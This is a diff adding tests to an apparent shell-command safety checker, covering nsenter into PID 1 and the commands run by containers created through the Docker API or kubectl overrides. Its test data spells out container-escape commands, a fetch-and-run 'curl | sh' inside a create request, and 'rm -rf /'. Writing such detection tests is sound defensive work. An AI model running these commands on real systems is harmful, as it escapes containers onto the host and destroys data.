@@ -16,6 +16,8 @@ Properties checked (each table has both directions):
 * running as root where the image chose another user (``docker exec -u 0``) or through a
   low-level runtime (``runc exec``, ``ctr run``, ``crictl exec``) warns (``shell.privilege``),
   and the runtimes' host-opening options block (``shell.container-escape``);
+* nsenter into PID 1 blocks in any spelling (-t1, -at1, --mount=/proc/1/ns/mnt); the
+  command a container created through the API or a pod spec runs is classified;
 * the same host-opening settings requested without the docker CLI block: a JSON body sent to
   the engine API (curl over the socket or TCP) that creates a container, exec or service,
   ``kubectl run --overrides``, ``kubectl patch -p`` (JSON or YAML), manifests given to
@@ -393,3 +395,48 @@ def test_push_of_every_ref_to_new_destination_warns(command: str) -> None:
 @pytest.mark.parametrize("command", REPO_EXPORT_PASSES)
 def test_everyday_pushes_pass(command: str) -> None:
     assert _verdict(command) == "pass", command
+
+
+# --- N: nsenter into PID 1 in any spelling, and the command a created container runs ---------
+
+NSENTER_ESCAPES = [
+    "nsenter --mount=/proc/1/ns/mnt -- sh",
+    "nsenter -m/proc/1/ns/mnt sh",
+    "nsenter -at1 sh",
+    "nsenter -t1 -m sh",
+    "nsenter --target 1 --mount --uts --ipc --net --pid sh",
+    "nsenter --root=/proc/1/root sh",
+]
+NSENTER_WARNS = [
+    "nsenter --net=/var/run/netns/x ip a",
+    "nsenter -t 12 -n ss -lnt",
+    "nsenter -n/proc/1234/ns/net ip a",
+]
+
+
+@pytest.mark.parametrize("command", NSENTER_ESCAPES)
+def test_nsenter_into_pid1_blocks(command: str) -> None:
+    assert "shell.container-escape" in _rules(command), command
+    assert _verdict(command) == "block", command
+
+
+@pytest.mark.parametrize("command", NSENTER_WARNS)
+def test_nsenter_into_other_process_warns(command: str) -> None:
+    assert _verdict(command) == "warn", command
+
+
+CREATED_COMMANDS = [
+    (f"""curl --unix-socket {SOCK} -d '{{"Image":"alpine","Cmd":["sh","-c","curl -s u | sh"]}}' """
+     "http://d/containers/create", "block"),
+    (f"""curl --unix-socket {SOCK} -d '{{"Image":"a","Entrypoint":["rm"],"Cmd":["-rf","/"]}}' """
+     "http://d/containers/create", "block"),
+    ("""kubectl run x --image=alpine --overrides='{"spec":{"containers":[{"name":"x","""
+     """"image":"alpine","command":["sh","-c","rm -rf /"]}]}}'""", "block"),
+    ("""kubectl run x --image=alpine --overrides='{"spec":{"containers":[{"name":"x","""
+     """"image":"alpine","command":["python","app.py"]}]}}'""", "pass"),
+]
+
+
+@pytest.mark.parametrize(("command", "verdict"), CREATED_COMMANDS)
+def test_command_of_a_created_container_is_classified(command: str, verdict: str) -> None:
+    assert _verdict(command) == verdict, command
